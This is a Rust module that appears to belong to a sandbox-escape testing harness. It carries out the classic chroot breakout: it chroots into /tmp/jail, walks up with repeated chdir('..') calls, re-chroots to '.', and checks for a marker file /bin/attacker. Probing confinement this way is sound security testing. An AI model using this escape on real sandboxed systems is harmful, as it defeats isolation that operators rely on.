//! The classic: chroot below, then up past it.
//!
//! Source: chroot(2).

use crate::{Stop, Technique, sys::call};

pub(crate) const THIS: Technique =
    Technique { source: "chroot(2)", tries: "chroot and walk out of it", attempt, alone: false };

fn attempt() -> Result<String, Stop> {
    std::fs::create_dir_all("/tmp/jail").map_err(Stop::at("mkdir /tmp/jail"))?;
    call("chroot", libc::SYS_chroot, [c"/tmp/jail".as_ptr() as i64, 0, 0, 0, 0, 0])?;
    for _ in 0..16 {
        call("chdir", libc::SYS_chdir, [c"..".as_ptr() as i64, 0, 0, 0, 0, 0])?;
    }
    call("chroot", libc::SYS_chroot, [c".".as_ptr() as i64, 0, 0, 0, 0, 0])?;
    std::fs::metadata("/bin/attacker").map_err(Stop::at("/bin/attacker"))?;
    Ok("out of a chroot of its own".to_owned())
}
